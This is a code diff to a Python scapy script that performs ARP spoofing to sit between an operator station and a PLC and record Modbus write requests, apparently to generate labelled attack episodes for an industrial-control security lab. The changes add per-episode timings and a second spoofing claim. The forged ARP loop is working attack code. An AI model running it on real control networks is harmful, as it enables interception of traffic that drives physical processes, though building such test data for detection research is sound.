@@ -13,11 +13,12 @@ import time
 
 from scapy.all import ARP, Ether, conf
 
-from attacks.episode import MODBUS_PORT, arguments, episode
+from attacks.episode import MODBUS_PORT, arguments, between, episode
 from network import ENGINEERING, OPERATOR, PLC, Host
 
-SECONDS = 45
-FORGE_SECONDS = 2
+# Seconds it lasts, seconds between two forged replies.
+TIMES = {1: (45, 2.0), 2: (30, 5.0), 3: (40, 0.7)}
+LONGER_SECONDS = 15
 WRITE_FUNCTIONS = (5, 6, 15, 16)
 
 
@@ -63,17 +64,19 @@ if __name__ == "__main__":
     stop = threading.Event()
     listener = threading.Thread(target=listen, args=(loot, stop))
     wire = conf.L2socket(iface="eth0")
-    claims = [{"kind": "between", "mac": ENGINEERING.mac, "ips": [OPERATOR.ip, PLC.ip]}]
+    # To forward, the attacker may have to ask for the operator's station, with which it has no other business.
+    claims = [{"kind": "between", "mac": ENGINEERING.mac, "ips": [OPERATOR.ip, PLC.ip]}, between(ENGINEERING, OPERATOR)]
     description = "operator and plc talk through the attacker, who changes nothing and notes the write requests"
-    with episode(given.log, "arp_spoof", description, claims):
+    seconds, pause = TIMES[given.number]
+    with episode(given.log, f"arp_spoof_{given.number}", description, claims):
         forwarding(True)
         listener.start()
-        end = time.monotonic() + SECONDS
-        # It stays a little longer, up to double the time, if the operator has not written anything yet.
-        while time.monotonic() < end or (len(loot) < 3 and time.monotonic() < end + SECONDS):
+        end = time.monotonic() + seconds
+        # It stays a little longer, if the operator has hardly written anything yet.
+        while time.monotonic() < end or (len(loot) < 3 and time.monotonic() < end + LONGER_SECONDS):
             wire.send(is_at(OPERATOR, PLC, ENGINEERING.mac))
             wire.send(is_at(PLC, OPERATOR, ENGINEERING.mac))
-            time.sleep(FORGE_SECONDS)
+            time.sleep(pause)
         for _ in range(3):
             wire.send(is_at(OPERATOR, PLC, PLC.mac))
             wire.send(is_at(PLC, OPERATOR, OPERATOR.mac))
